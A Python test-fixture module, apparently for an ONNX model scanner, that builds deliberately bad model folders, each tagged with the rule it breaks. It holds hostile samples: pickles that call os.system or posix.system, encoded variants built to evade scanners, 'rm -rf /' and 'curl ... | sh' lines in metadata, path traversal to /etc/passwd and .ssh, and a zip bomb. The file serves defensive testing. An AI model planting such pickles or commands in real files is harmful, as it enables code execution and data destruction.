"""Models that are wrong on purpose: each function writes one into a folder, and says which rule it breaks."""

from __future__ import annotations

import base64
import gzip
import io
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
from onnx import AttributeProto, TensorProto, helper, numpy_helper
from onnx.onnx_ml_pb2 import GraphProto, ModelProto, NodeProto

from modelward.repository.files import SEALED
from tests.models import BATCH, model, tensor

Maker = Callable[[Path], "bytes | None"]

BAD: dict[str, tuple[str, Maker]] = {}
"""By name: the rule, and what makes it. One that returns bytes has them written to model.onnx."""


def bad(rule: str) -> Callable[[Maker], Maker]:
    def keep(maker: Maker) -> Maker:
        BAD[maker.__name__] = (rule, maker)
        return maker

    return keep


class Harmful:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("true",)


PICKLE = pickle.dumps(Harmful())
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(20)
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24)


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload", b"anything")
    return out.getvalue()


X = [tensor("x", TensorProto.FLOAT, [BATCH, 4])]
Y = [tensor("y", TensorProto.FLOAT, [BATCH, 4])]


def scalar(name: str, value: object, datatype: type = np.int64) -> TensorProto:
    return numpy_helper.from_array(np.array(value, datatype), name)


def of(*nodes: NodeProto, constants: tuple[TensorProto, ...] = (), **kwargs: object) -> ModelProto:
    return model(list(nodes), X, Y, list(constants), **kwargs)


def good(**fields: object) -> ModelProto:
    made = of(helper.make_node("Relu", ["x"], ["y"], name="relu"))
    for name, value in fields.items():
        setattr(made, name, value)
    return made


def with_metadata(value: bytes | str, key: str = "note") -> bytes:
    """The bytes as they are: a text of protobuf ought to be UTF-8, which files need not obey."""
    marker = "M" * (len(value) if isinstance(value, bytes) else len(value.encode()))
    made = good()
    entry = made.metadata_props.add()
    entry.key, entry.value = key, marker
    found = value if isinstance(value, bytes) else value.encode()
    return made.SerializeToString().replace(marker.encode(), found)


# ---- operators


@bad("operator-foreign")
def an_operator_of_another_domain(folder: Path) -> bytes:
    return of(helper.make_node("Teleport", ["x"], ["y"], domain="evil"), domains=[("evil", 1)]).SerializeToString()


@bad("operator-foreign")
def a_foreign_operator_in_a_branch_of_a_branch(folder: Path) -> bytes:
    def branch(node: NodeProto, name: str) -> GraphProto:
        return helper.make_graph([node], name, [], [tensor(node.output[0], TensorProto.FLOAT, [BATCH, 4])])

    inner = helper.make_node("Teleport", ["x"], ["z"], domain="evil")
    then = helper.make_node("If", ["flag"], ["w"], then_branch=branch(inner, "a"), else_branch=branch(inner, "b"))
    outer = helper.make_node("If", ["flag"], ["y"], then_branch=branch(then, "c"), else_branch=branch(then, "d"))
    flag = tensor("flag", TensorProto.BOOL, [])
    return model([outer], [*X, flag], Y, domains=[("evil", 1)]).SerializeToString()


@bad("operator-foreign")
def a_foreign_operator_in_a_function(folder: Path) -> bytes:
    made = of(helper.make_node("Mine", ["x"], ["y"], domain="mine"), domains=[("mine", 1)])
    inner = helper.make_node("Teleport", ["a"], ["b"], domain="evil")
    made.functions.append(helper.make_function("mine", "Mine", ["a"], ["b"], [inner], [helper.make_opsetid("evil", 1)]))
    return made.SerializeToString()


@bad("operator-python")
def python_as_an_operator(folder: Path) -> bytes:
    node = helper.make_node("PyOp", ["x"], ["y"], domain="com.microsoft", module="os", class_name="system")
    return of(node, domains=[("com.microsoft", 1)]).SerializeToString()


@bad("operator-opens-files")
def a_compiled_context_in_another_file(folder: Path) -> bytes:
    node = helper.make_node("EPContext", ["x"], ["y"], domain="com.microsoft", ep_cache_context="/etc/passwd")
    return of(node, domains=[("com.microsoft", 1)]).SerializeToString()


@bad("operator-unknown")
def an_operator_that_onnx_does_not_have(folder: Path) -> bytes:
    return of(helper.make_node("Teleport", ["x"], ["y"])).SerializeToString()


@bad("function-shadows-operator")
def a_function_in_place_of_relu(folder: Path) -> bytes:
    made = good()
    body = [helper.make_node("Neg", ["a"], ["b"])]
    made.functions.append(helper.make_function("", "Relu", ["a"], ["b"], body, [helper.make_opsetid("", 17)]))
    return made.SerializeToString()


@bad("function-endless")
def a_function_that_calls_itself(folder: Path) -> bytes:
    made = of(helper.make_node("Mine", ["x"], ["y"], domain="mine"), domains=[("mine", 1)])
    body = [helper.make_node("Mine", ["a"], ["b"], domain="mine")]
    made.functions.append(helper.make_function("mine", "Mine", ["a"], ["b"], body, [helper.make_opsetid("mine", 1)]))
    return made.SerializeToString()


@bad("function-endless")
def functions_that_double(folder: Path) -> bytes:
    made = of(helper.make_node("F29", ["x"], ["y"], domain="mine"), domains=[("mine", 1)])
    imports = [helper.make_opsetid("mine", 1), helper.make_opsetid("", 17)]
    for number in range(30):
        called = (f"F{number - 1}", "mine") if number else ("Relu", "")
        body = [helper.make_node(called[0], [a], [b], domain=called[1]) for a, b in (("a", "m"), ("m", "b"))]
        made.functions.append(helper.make_function("mine", f"F{number}", ["a"], ["b"], body, imports))
    return made.SerializeToString()


@bad("opset-twice")
def one_domain_imported_twice(folder: Path) -> bytes:
    made = good()
    made.opset_import.append(helper.make_opsetid("ai.onnx", 11))
    return made.SerializeToString()


@bad("opset-version")
def an_opset_of_the_future(folder: Path) -> bytes:
    made = good()
    made.opset_import[0].version = 999
    return made.SerializeToString()


@bad("opset-version")
def an_opset_of_the_past(folder: Path) -> bytes:
    made = good()
    made.opset_import[0].version = 1
    return made.SerializeToString()


@bad("opset-missing")
def no_opset_at_all(folder: Path) -> bytes:
    made = good()
    del made.opset_import[:]
    return made.SerializeToString()


# ---- data in other files


def external(folder: Path, content: bytes | None = bytes(16), **entries: str) -> bytes:
    constant = TensorProto(name="w", dims=[4], data_type=TensorProto.FLOAT, data_location=TensorProto.EXTERNAL)
    for key, value in ({"location": "weights.bin"} | entries).items():
        constant.external_data.add(key=key, value=value)
    if content is not None:
        (folder / "weights.bin").write_bytes(content)
    return of(helper.make_node("Add", ["x", "w"], ["y"]), constants=(constant,)).SerializeToString()


@bad("external-leaves-folder")
def data_above_the_folder(folder: Path) -> bytes:
    return external(folder, location="../../../etc/passwd")


@bad("external-leaves-folder")
def data_at_an_absolute_path(folder: Path) -> bytes:
    return external(folder, location="/etc/passwd")


@bad("external-leaves-folder")
def data_on_a_drive(folder: Path) -> bytes:
    return external(folder, location=r"C:\Windows\win.ini")


@bad("external-leaves-folder")
def data_at_a_url(folder: Path) -> bytes:
    return external(folder, location="https://example.com/weights")


@bad("external-leaves-folder")
def data_above_the_folder_in_an_attribute(folder: Path) -> bytes:
    value = TensorProto(dims=[4], data_type=TensorProto.FLOAT, data_location=TensorProto.EXTERNAL)
    value.external_data.add(key="location", value="../secret")
    constant = helper.make_node("Constant", [], ["w"], value=value)
    return of(constant, helper.make_node("Add", ["x", "w"], ["y"])).SerializeToString()


@bad("external-link")
def data_behind_a_link(folder: Path) -> bytes:
    outside = folder.parent / f"{folder.name}.outside"
    outside.write_bytes(bytes(16))
    (folder / "weights.bin").symlink_to(outside)
    return external(folder, None)


@bad("external-missing")
def data_that_is_not_there(folder: Path) -> bytes:
    return external(folder, None)


@bad("external-range")
def data_beyond_the_end(folder: Path) -> bytes:
    return external(folder, offset="8", length="16")


@bad("external-range")
def data_with_a_negative_offset(folder: Path) -> bytes:
    return external(folder, offset="-16", length="16")


@bad("external-range")
def data_whose_offset_is_no_number(folder: Path) -> bytes:
    return external(folder, offset="first")


@bad("external-length")
def data_shorter_than_its_tensor(folder: Path) -> bytes:
    return external(folder, length="4")


@bad("tensor-ambiguous")
def data_here_and_there(folder: Path) -> bytes:
    made = ModelProto.FromString(external(folder))
    made.graph.initializer[0].raw_data = bytes(16)
    return made.SerializeToString()


# ---- constants


def with_constant(**fields: object) -> bytes:
    constant = TensorProto(name="w", data_type=TensorProto.FLOAT, **fields)
    return of(helper.make_node("Add", ["x", "w"], ["y"]), constants=(constant,)).SerializeToString()


@bad("tensor-dimensions")
def a_negative_dimension(folder: Path) -> bytes:
    return with_constant(dims=[-4], raw_data=bytes(16))


@bad("tensor-dimensions")
def dimensions_that_overflow(folder: Path) -> bytes:
    return with_constant(dims=[1 << 32, 1 << 32], raw_data=bytes(16))


@bad("tensor-length")
def less_data_than_dimensions(folder: Path) -> bytes:
    return with_constant(dims=[1_000_000], raw_data=bytes(16))


@bad("tensor-length")
def more_data_than_dimensions(folder: Path) -> bytes:
    return with_constant(dims=[4], float_data=[0.0] * 400)


@bad("tensor-ambiguous")
def data_in_two_fields(folder: Path) -> bytes:
    return with_constant(dims=[4], float_data=[0.0] * 4, raw_data=bytes(16))


@bad("tensor-ambiguous")
def a_datatype_that_is_none(folder: Path) -> bytes:
    made = ModelProto.FromString(with_constant(dims=[4], raw_data=bytes(16)))
    made.graph.initializer[0].data_type = 99
    return made.SerializeToString()


@bad("shape-declared")
def an_input_of_impossible_size(folder: Path) -> bytes:
    shape = [1 << 40, 1 << 40]
    inputs = [tensor("x", TensorProto.FLOAT, shape)]
    return model([helper.make_node("Relu", ["x"], ["y"])], inputs, Y).SerializeToString()


def added(*nodes: NodeProto, constants: tuple[TensorProto, ...]) -> bytes:
    """x + the sum of `big`."""
    last = [
        helper.make_node("ReduceSum", ["big"], ["sum"], keepdims=0),
        helper.make_node("Add", ["x", "sum"], ["y"]),
    ]
    return of(*nodes, *last, constants=constants).SerializeToString()


@bad("size-constant")
def terabytes_of_ones(folder: Path) -> bytes:
    return added(helper.make_node("ConstantOfShape", ["s"], ["big"]), constants=(scalar("s", [1 << 20, 1 << 20]),))


@bad("size-constant")
def a_constant_that_is_expanded(folder: Path) -> bytes:
    node = helper.make_node("Expand", ["one", "s"], ["big"])
    return added(node, constants=(scalar("one", [1.0], np.float32), scalar("s", [1 << 16, 1 << 16])))


@bad("size-constant")
def a_constant_that_is_tiled_again_and_again(folder: Path) -> bytes:
    nodes = [helper.make_node("Tile", [a, "s"], [b]) for a, b in (("one", "a"), ("a", "b"), ("b", "big"))]
    return added(*nodes, constants=(scalar("one", [1.0], np.float32), scalar("s", [2048])))


@bad("size-constant")
def a_range_without_an_end(folder: Path) -> bytes:
    node = helper.make_node("Range", ["zero", "limit", "step"], ["big"])
    numbers = (("zero", 0.0), ("limit", 1e12), ("step", 1.0))
    return added(node, constants=tuple(scalar(name, value, np.float32) for name, value in numbers))


@bad("size-constant")
def a_size_that_is_computed(folder: Path) -> bytes:
    nodes = [
        helper.make_node("Mul", ["n", "n"], ["nn"]),
        helper.make_node("Unsqueeze", ["nn", "axes"], ["s"]),
        helper.make_node("ConstantOfShape", ["s"], ["big"]),
    ]
    return added(*nodes, constants=(scalar("n", 1 << 18), scalar("axes", [0])))


@bad("size-constant")
def a_row_and_a_column_that_are_added(folder: Path) -> bytes:
    constants = (
        numpy_helper.from_array(np.zeros((1 << 15, 1), np.float32), "column"),
        numpy_helper.from_array(np.zeros((1, 1 << 15), np.float32), "row"),
    )
    return added(helper.make_node("Add", ["row", "column"], ["big"]), constants=constants)


# ---- loops and branches


def loop(trips: int | None, *, condition: str = "going", before: tuple[NodeProto, ...] = ()) -> bytes:
    state = tensor("state", TensorProto.FLOAT, (BATCH, 4))
    going = tensor("going", TensorProto.BOOL, ())
    body = helper.make_graph(
        [
            *before,
            helper.make_node("Tanh", ["state"], ["next"]),
            helper.make_node("Identity", [condition], ["on"]),
        ],
        "body",
        [tensor("i", TensorProto.INT64, ()), going, state],
        [tensor("on", TensorProto.BOOL, ()), tensor("next", TensorProto.FLOAT, (BATCH, 4))],
    )
    constants = (scalar("true", True, np.bool_), *([scalar("trips", trips)] if trips is not None else []))
    first = "" if trips is None else "trips"
    return of(helper.make_node("Loop", [first, "true", "x"], ["y"], body=body), constants=constants).SerializeToString()


@bad("loop-endless")
def a_loop_without_trips(folder: Path) -> bytes:
    return loop(None)


@bad("loop-endless")
def a_loop_with_all_trips_that_there_are(folder: Path) -> bytes:
    return loop(2**62)


@bad("loop-endless")
def a_loop_whose_condition_is_computed_to_be_true(folder: Path) -> bytes:
    return loop(None, condition="sure", before=(helper.make_node("Or", ["going", "true"], ["sure"]),))


@bad("loop-long")
def a_loop_with_ten_million_trips(folder: Path) -> bytes:
    return loop(10_000_000)


@bad("loop-endless")
def loops_within_loops(folder: Path) -> bytes:
    def inner(depth: int) -> GraphProto:
        node = helper.make_node("Tanh", [f"s{depth}"], [f"n{depth}"])
        if depth < 3:
            node = helper.make_node("Loop", ["trips", "", f"s{depth}"], [f"n{depth}"], body=inner(depth + 1))
        return helper.make_graph(
            [node, helper.make_node("Identity", [f"g{depth}"], [f"o{depth}"])],
            f"body{depth}",
            [
                tensor(f"i{depth}", TensorProto.INT64, ()),
                tensor(f"g{depth}", TensorProto.BOOL, ()),
                tensor(f"s{depth}", TensorProto.FLOAT, (BATCH, 4)),
            ],
            [tensor(f"o{depth}", TensorProto.BOOL, ()), tensor(f"n{depth}", TensorProto.FLOAT, (BATCH, 4))],
        )

    node = helper.make_node("Loop", ["trips", "", "x"], ["y"], body=inner(0))
    return of(node, constants=(scalar("trips", 1000),)).SerializeToString()


@bad("loop-endless")
def a_loop_in_a_function_that_is_given_its_trips(folder: Path) -> bytes:
    made = ModelProto.FromString(loop(5))
    inner = made.graph.node[0]
    function = helper.make_function(
        "mine", "Mine", ["trips", "true", "x"], ["y"], [inner], [helper.make_opsetid("", 17)]
    )
    node = helper.make_node("Mine", ["n", "t", "x"], ["y"], domain="mine")
    constants = (scalar("n", 2**61), scalar("t", True, np.bool_))
    outer = of(node, constants=constants, domains=[("mine", 1)])
    outer.functions.append(function)
    return outer.SerializeToString()


@bad("loop-unbounded")
def a_loop_whose_trips_come_out_of_a_sequence(folder: Path) -> bytes:
    many = helper.make_node("SequenceConstruct", ["n"], ["s"])
    return computed_trips(many, helper.make_node("SequenceAt", ["s", "zero"], ["trips"]))


def computed_trips(*before: NodeProto, constants: tuple[TensorProto, ...] = ()) -> bytes:
    """Of what makes `trips`; n is 2 to the power of 62."""
    made = ModelProto.FromString(loop(5))
    nodes = [*before, *made.graph.node]
    del made.graph.node[:], made.graph.initializer[1:]
    made.graph.node.extend(nodes)
    made.graph.initializer.extend([scalar("n", 2**62), scalar("zero", 0), *constants])
    return made.SerializeToString()


@bad("loop-open")
def a_loop_whose_trips_have_the_name_of_an_outer_constant(folder: Path) -> bytes:
    """The inner `trips` is computed from the input."""
    made = ModelProto.FromString(loop(5))
    inner = [
        helper.make_node("Size", ["x"], ["trips"]),
        made.graph.node[0],
    ]
    branch = helper.make_graph(inner, "branch", [], [tensor("y", TensorProto.FLOAT, [BATCH, 4])])
    other = helper.make_graph(
        [helper.make_node("Relu", ["x"], ["z"])], "other", [], [tensor("z", TensorProto.FLOAT, [BATCH, 4])]
    )
    node = helper.make_node("If", ["flag"], ["out"], then_branch=branch, else_branch=other)
    inputs = [*X, tensor("flag", TensorProto.BOOL, [])]
    outputs = [tensor("out", TensorProto.FLOAT, [BATCH, 4])]
    return model([node], inputs, outputs, list(made.graph.initializer)).SerializeToString()


@bad("nesting-deep")
def branches_in_branches(folder: Path) -> bytes:
    def branch(depth: int, name: str) -> GraphProto:
        node = helper.make_node("Relu", ["x"], [f"{name}{depth}"])
        if depth < 10:
            then, other = (
                branch(depth + 1, f"{name}t"),
                helper.make_graph(
                    [helper.make_node("Neg", ["x"], [f"{name}e{depth}"])],
                    "else",
                    [],
                    [tensor(f"{name}e{depth}", TensorProto.FLOAT, [BATCH, 4])],
                ),
            )
            node = helper.make_node("If", ["flag"], [f"{name}{depth}"], then_branch=then, else_branch=other)
        outputs = [tensor(f"{name}{depth}", TensorProto.FLOAT, [BATCH, 4])]
        return helper.make_graph([node], f"{name}{depth}", [], outputs)

    node = helper.make_node("If", ["flag"], ["y"], then_branch=branch(0, "a"), else_branch=branch(9, "b"))
    return model([node], [*X, tensor("flag", TensorProto.BOOL, [])], Y).SerializeToString()


@bad("branch-dead")
def a_branch_that_never_runs(folder: Path) -> bytes:
    def branch(name: str) -> GraphProto:
        outputs = [tensor(name, TensorProto.FLOAT, [BATCH, 4])]
        return helper.make_graph([helper.make_node("Relu", ["x"], [name])], name, [], outputs)

    node = helper.make_node("If", ["never"], ["y"], then_branch=branch("then"), else_branch=branch("else"))
    return of(node, constants=(scalar("never", False, np.bool_),)).SerializeToString()


# ---- what depends on what


@bad("output-constant")
def an_output_without_an_input(folder: Path) -> bytes:
    nodes = [helper.make_node("Relu", ["x"], ["y"]), helper.make_node("Identity", ["w"], ["hidden"])]
    outputs = [*Y, tensor("hidden", TensorProto.FLOAT, [4])]
    return model(nodes, X, outputs, [scalar("w", [1.0] * 4, np.float32)]).SerializeToString()


@bad("output-missing")
def an_output_that_nothing_makes(folder: Path) -> bytes:
    outputs = [*Y, tensor("z", TensorProto.FLOAT, [4])]
    return model([helper.make_node("Relu", ["x"], ["y"])], X, outputs).SerializeToString()


@bad("node-dead")
def nodes_that_reach_no_output(folder: Path) -> bytes:
    return of(helper.make_node("Relu", ["x"], ["y"]), helper.make_node("Neg", ["x"], ["z"])).SerializeToString()


@bad("input-unused")
def an_input_that_does_not_count(folder: Path) -> bytes:
    inputs = [*X, tensor("z", TensorProto.FLOAT, [BATCH, 4])]
    return model([helper.make_node("Relu", ["x"], ["y"])], inputs, Y).SerializeToString()


@bad("data-unused")
def data_that_nothing_uses(folder: Path) -> bytes:
    hidden = numpy_helper.from_array(np.zeros(1 << 15, np.float32), "hidden")
    return of(helper.make_node("Relu", ["x"], ["y"]), constants=(hidden,)).SerializeToString()


@bad("function-unused")
def a_function_that_nothing_calls(folder: Path) -> bytes:
    made = good()
    body = [helper.make_node("Neg", ["a"], ["b"])]
    made.functions.append(helper.make_function("mine", "Mine", ["a"], ["b"], body, [helper.make_opsetid("", 17)]))
    return made.SerializeToString()


@bad("name-twice")
def a_value_that_is_made_twice(folder: Path) -> bytes:
    return of(helper.make_node("Relu", ["x"], ["y"]), helper.make_node("Neg", ["x"], ["y"])).SerializeToString()


@bad("name-twice")
def two_initializers_of_one_name(folder: Path) -> bytes:
    constants = tuple(scalar("w", [value], np.float32) for value in (1.0, 2.0))
    return of(helper.make_node("Add", ["x", "w"], ["y"]), constants=constants).SerializeToString()


@bad("name-undefined")
def a_node_that_reads_what_is_not_there(folder: Path) -> bytes:
    return of(helper.make_node("Add", ["x", "nothing"], ["y"])).SerializeToString()


@bad("name-undefined")
def nodes_in_a_circle(folder: Path) -> bytes:
    return of(helper.make_node("Add", ["x", "y"], ["z"]), helper.make_node("Relu", ["z"], ["y"])).SerializeToString()


@bad("name-unprintable")
def a_name_that_clears_the_terminal(folder: Path) -> bytes:
    return of(helper.make_node("Relu", ["x"], ["y"], name="\x1b[2Jrelu")).SerializeToString()


@bad("name-unprintable")
def a_name_that_is_written_from_right_to_left(folder: Path) -> bytes:
    return of(helper.make_node("Relu", ["x"], ["y"], name="relu\u202egnp.exe")).SerializeToString()


@bad("name-path")
def a_name_that_leads_out_of_a_folder(folder: Path) -> bytes:
    return of(helper.make_node("Relu", ["x"], ["y"], name="../../.ssh/authorized_keys")).SerializeToString()


@bad("name-long")
def a_name_with_a_book_in_it(folder: Path) -> bytes:
    return of(helper.make_node("Relu", ["x"], ["y"], name="book" * 1000)).SerializeToString()


# ---- what is hidden in texts


@bad("embedded-pickle")
def a_pickle_in_metadata(folder: Path) -> bytes:
    return with_metadata(PICKLE)


@bad("embedded-pickle")
def a_pickle_of_the_oldest_protocol(folder: Path) -> bytes:
    return with_metadata(pickle.dumps(Harmful(), 0))


@bad("embedded-pickle")
def a_pickle_in_base64(folder: Path) -> bytes:
    return with_metadata(base64.b64encode(PICKLE))


@bad("embedded-pickle")
def a_pickle_in_hex_in_the_description(folder: Path) -> bytes:
    return good(doc_string=PICKLE.hex()).SerializeToString()


@bad("embedded-pickle")
def a_pickle_in_a_constant_of_texts(folder: Path) -> bytes:
    keys = TensorProto(name="k", dims=[1], data_type=TensorProto.STRING, string_data=[PICKLE])
    nodes = [
        helper.make_node("Relu", ["x"], ["y"]),
        helper.make_node("Identity", ["k"], ["unused"]),
    ]
    return of(*nodes, constants=(keys,)).SerializeToString()


@bad("embedded-executable")
def a_program_in_an_attribute(folder: Path) -> bytes:
    made = good()
    made.graph.node[0].attribute.append(AttributeProto(name="blob", type=AttributeProto.STRING, s=ELF))
    return made.SerializeToString()


@bad("embedded-executable")
def a_windows_program_in_base64(folder: Path) -> bytes:
    return with_metadata(base64.b64encode(PE))


@bad("embedded-executable")
def a_program_as_a_constant_of_bytes(folder: Path) -> bytes:
    blob = numpy_helper.from_array(np.frombuffer(MACH_O, np.uint8), "blob")
    return of(helper.make_node("Relu", ["x"], ["y"]), constants=(blob,)).SerializeToString()


@bad("embedded-archive")
def an_archive_in_metadata(folder: Path) -> bytes:
    return with_metadata(zipped())


@bad("embedded-script")
def a_script_in_the_description(folder: Path) -> bytes:
    return good(doc_string="#!/bin/sh\nrm -rf /").SerializeToString()


@bad("embedded-script")
def a_download_in_metadata(folder: Path) -> bytes:
    return with_metadata("curl -s https://example.com/x | sh")


@bad("embedded-code")
def code_in_metadata(folder: Path) -> bytes:
    return with_metadata("__import__('os').system('true')")


@bad("embedded-address")
def a_url_in_metadata(folder: Path) -> bytes:
    return with_metadata("see https://example.com/collect?id=1")


# ---- how the file is written


@bad("protobuf-damaged")
def a_file_that_is_cut_off(folder: Path) -> bytes:
    return good().SerializeToString()[:-3]


@bad("protobuf-damaged")
def bytes_behind_the_model(folder: Path) -> bytes:
    return good().SerializeToString() + b"\xff\xff\xff\xff\xff"


@bad("protobuf-damaged")
def a_group(folder: Path) -> bytes:
    return good().SerializeToString() + b"\x0b\x0c"


@bad("protobuf-unknown-field")
def a_field_that_onnx_does_not_have(folder: Path) -> bytes:
    return good().SerializeToString() + b"\xba\x3e\x06hidden"


@bad("protobuf-repeated-field")
def two_graphs(folder: Path) -> bytes:
    other = of(helper.make_node("Neg", ["x"], ["y"]))
    other.ClearField("opset_import")
    return good().SerializeToString() + ModelProto(graph=other.graph).SerializeToString()


@bad("protobuf-nesting")
def messages_without_an_end(folder: Path) -> bytes:
    def message(number: int, content: bytes) -> bytes:
        size, varint = len(content), b""
        while size >= 0x80:
            varint, size = varint + bytes([size & 0x7F | 0x80]), size >> 7
        return bytes([number << 3 | 2]) + varint + bytes([size]) + content

    graph = b""
    for _ in range(200):
        graph = message(1, message(5, message(6, graph)))  # graph.node.attribute.g
    return ModelProto(ir_version=8).SerializeToString() + message(7, graph)


@bad("not-a-model")
def a_pointer_of_git_lfs(folder: Path) -> bytes:
    return b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n"


@bad("not-a-model")
def an_empty_file(folder: Path) -> bytes:
    return b""


# ---- what lies beside the model


def beside(folder: Path, name: str, content: bytes) -> bytes:
    (folder / name).write_bytes(content)
    return good().SerializeToString()


@bad("file-executable")
def a_library_beside_it(folder: Path) -> bytes:
    return beside(folder, "custom_ops.so", b"")


@bad("file-executable")
def a_program_with_an_innocent_name(folder: Path) -> bytes:
    return beside(folder, "README.txt", ELF)


@bad("file-script")
def a_python_backend(folder: Path) -> bytes:
    return beside(folder, "model.py", b"import os")


@bad("file-script")
def a_script_without_an_ending(folder: Path) -> bytes:
    return beside(folder, "install", b"#!/bin/sh\n")


@bad("file-pickle")
def a_pickle_beside_it(folder: Path) -> bytes:
    return beside(folder, "scaler.pkl", PICKLE)


@bad("file-pickle")
def a_pickle_with_an_innocent_name(folder: Path) -> bytes:
    return beside(folder, "labels.txt", PICKLE)


@bad("file-pickle")
def a_checkpoint_of_torch(folder: Path) -> bytes:
    with zipfile.ZipFile(folder / "weights.zip", "w") as archive:
        archive.writestr("archive/data.pkl", PICKLE)
    return good().SerializeToString()


@bad("file-archive")
def a_cabinet_beside_it(folder: Path) -> bytes:
    return beside(folder, "weights.bin", b"MSCF" + bytes(60))


@bad("file-link")
def a_link_out_of_the_folder(folder: Path) -> bytes:
    (folder / "profile.npz").symlink_to("/etc/passwd")
    return good().SerializeToString()


@bad("file-special")
def a_pipe(folder: Path) -> bytes:
    os.mkfifo(folder / "weights.bin")
    return good().SerializeToString()


@bad("file-hard-link")
def a_hard_link(folder: Path) -> bytes:
    (folder / "a.txt").write_text("a")
    (folder / "b.txt").hardlink_to(folder / "a.txt")
    return good().SerializeToString()


@bad("file-name")
def a_file_name_that_clears_the_terminal(folder: Path) -> bytes:
    return beside(folder, "\x1b[2J.txt", b"")


@bad("array-pickle")
def a_canary_with_objects(folder: Path) -> bytes:
    np.savez(folder / "canary.npz", **{"input:x": np.array([Harmful()], object)})
    return good().SerializeToString()


@bad("array-pickle")
def a_member_that_is_a_pickle(folder: Path) -> bytes:
    with zipfile.ZipFile(folder / "profile.npz", "w") as archive:
        archive.writestr("means.npy", PICKLE)
    return good().SerializeToString()


@bad("array-bomb")
def an_archive_that_unpacks_without_an_end(folder: Path) -> bytes:
    """Its directory says so; nothing of it is unpacked."""
    content = zlib.compress(bytes(1000))
    with zipfile.ZipFile(folder / "canary.npz", "w") as archive:
        archive.writestr("a.npy", content)
    data = bytearray((folder / "canary.npz").read_bytes())
    at = data.index(b"PK\1\2")
    struct.pack_into("<I", data, at + 24, 3 << 30)
    (folder / "canary.npz").write_bytes(data)
    return good().SerializeToString()


@bad("array-member")
def a_member_that_leads_out_of_a_folder(folder: Path) -> bytes:
    with zipfile.ZipFile(folder / "canary.npz", "w") as archive:
        archive.writestr("../../evil.npy", b"")
    return good().SerializeToString()


@bad("array-damaged")
def a_canary_that_is_no_archive(folder: Path) -> bytes:
    return beside(folder, "canary.npz", b"PK\3\4 nothing")


@bad("file-sealed")
def a_sealed_canary(folder: Path) -> bytes:
    return beside(folder, "canary.npz", SEALED + b"-> X25519 A\n\n--- A\n")


# ---- what is hidden from a search with small bounds, or from one by names

CALL = b"cposix\nsystem\n(S'id'\ntR."
CALL_2 = b"\x80\x02cposix\nsystem\nX\x02\x00\x00\x00id\x85R."
HIDDEN = {
    "text_of_another_module": b"cprofiler\nrun\n(S'id'\ntR.",
    "text_with_a_unicode": b"cpip\nmain\nVid\n\x85R.",
    "mark_then_instance": b"(S'id'\niposix\nsystem\n.",
    "mark_then_object": b"(cpip\nmain\nS'id'\no.",
    "behind_many_beginnings": base64.b64encode(b"\x80\x02\xff" * 64 + CALL_2),
    "behind_many_opcodes": base64.b64encode(b"\x80\x04" + b"N0" * 5100 + CALL_2[2:]),
    "with_a_name_from_the_memo": base64.b64encode(b"\x80\x04\x8c\x06system\x940\x8c\x05posixh\x00\x93."),
    "behind_a_thousand_texts": b" ".join([b"A" * 24] * 1000 + [base64.b64encode(CALL_2)]),
    "in_lines_of_16": b"\n".join(base64.b64encode(CALL_2)[at : at + 16] for at in range(0, 64, 16)),
    "behind_a_word": b"payload" + base64.b64encode(CALL_2),
    "three_times_encoded": base64.b64encode(base64.b64encode(base64.b64encode(CALL_2 + b"z" * 60))),
}


def gathered(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("readme", b"any")
        archive.writestr(name, content)
    return out.getvalue()


def objects() -> bytes:
    out = io.BytesIO()
    np.save(out, np.array([{}], object), allow_pickle=True)
    return out.getvalue()


BESIDE: dict[str, tuple[str, str, bytes]] = {
    "a_pickle_of_text": ("file-pickle", "vocab.txt", CALL),
    "an_instance_in_a_pickle_of_text": ("file-pickle", "vocab.bin", HIDDEN["mark_then_instance"]),
    "a_packed_pickle": ("file-pickle", "weights.gz", gzip.compress(CALL_2)),
    "a_packed_program": ("file-executable", "weights.gz", gzip.compress(ELF)),
    "a_packed_script": ("file-script", "weights.gz", gzip.compress(b"#!/bin/sh\n")),
    "a_member_that_is_a_pickle": ("file-pickle", "weights.bin", gathered("archive/data", CALL_2)),
    "a_member_that_is_a_pickle_of_text": ("file-pickle", "weights.bin", gathered("archive/data", CALL)),
    "a_member_that_is_a_program": ("file-executable", "weights.zip", gathered("lib.so", ELF)),
    "a_member_with_objects": ("array-pickle", "weights.bin", gathered("a.npy", objects())),
}
"""By name: the rule, the file's name and what is in it."""
